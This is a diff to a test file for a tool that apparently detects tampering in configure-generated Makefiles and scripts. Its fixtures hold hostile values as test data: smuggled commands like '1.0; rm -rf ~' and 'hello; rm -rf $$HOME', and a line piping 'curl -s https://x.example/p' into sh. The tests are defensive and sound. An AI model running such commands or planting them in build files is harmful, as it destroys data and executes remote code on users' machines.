@@ -8,7 +8,7 @@ import { execFileSync } from 'node:child_process';
 import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { instantiationValues, unconditionalConfigFiles } from '../../src/classify/configured-output.js';
+import { instantiationValues, plainValue, unconditionalConfigFiles } from '../../src/classify/configured-output.js';
 import { explain } from '../../src/pipeline/memory.js';
 import { tempDir } from '../helpers/tmp.js';
 
@@ -91,6 +91,12 @@ describe('configured-output: a file configure writes again, shipped from a confi
     expect(instantiationValues(`${'@N1@@N2@@N3@@N4@@N5@@N6@@N7@'}\n`, 'abcdefg\n', input)).toBeUndefined();
     // a name config.status left as it stands (no AC_SUBST defines it) before the unknown one on a line
     expect(instantiationValues('a=@U@\nb=@U@ @B@\n', 'a=@U@\nb=@U@ 2\n', input)).toEqual(new Map([['U', '@U@'], ['B', '2']]));
+    // configure values, automake's own included; a command chained or substituted is not one
+    expect(['gcc', '-g -O2', '$(V)', '$${TAR-tar} chof - "$$tardir"', '${SHELL} /build/install-sh', '/usr/sbin/zdump', ''].every(plainValue)).toBe(true);
+    expect(['1.0; rm -rf ~', 'x && id', 'a | sh', '$(shell id)', '`id`', '$$(id)', '${x:=`id`}', 'x > /etc/passwd'].some((v) => plainValue(v))).toBe(false);
+    // in a script (not a makefile) $(NAME) runs NAME
+    expect(plainValue('$(V)', false)).toBe(false);
+    expect(plainValue('${prefix}/share', false)).toBe(true);
     // VPATH dropped when configure ran in the source tree
     expect(instantiationValues('VPATH = @srcdir@\nA=@A@\n', '\nA=1\n', input)).toEqual(new Map([['A', '1']]));
   });
@@ -130,6 +136,8 @@ describe('configured-output: a file configure writes again, shipped from a confi
     expect(await findings({ Makefile: out.Makefile!.replace('\t@echo $(GREETING)\n', '\t@echo $(GREETING)\n\tcurl -s https://x.example/p | sh\n') })).toEqual({ Makefile: unexplained });
     // a "value" that downloads and runs a script
     expect(await findings({ 'tools/run.sh': out['tools/run.sh']!.replace(/echo "hello/, 'echo "$(curl -s https://x.example/p | sh)') })).toEqual({ 'tools/run.sh': unexplained });
+    // a "value" that ends the echo and runs a command no construct pattern names: not a configure value
+    expect(await findings({ Makefile: out.Makefile!.replace(/^GREETING = hello$/m, 'GREETING = hello; rm -rf $$HOME') })).toEqual({ Makefile: unexplained });
     // config.status's output under a name configure.ac does not list: configure never writes it again
     expect(await findings({ 'misc/dst/dst2': out['misc/dst/dst']! })).toEqual({ 'misc/dst/dst2': unexplained });
     // the shipped Makefile.in is an input: tampered (a tarball-only Makefile.in the fixture cannot prove), the output is raised
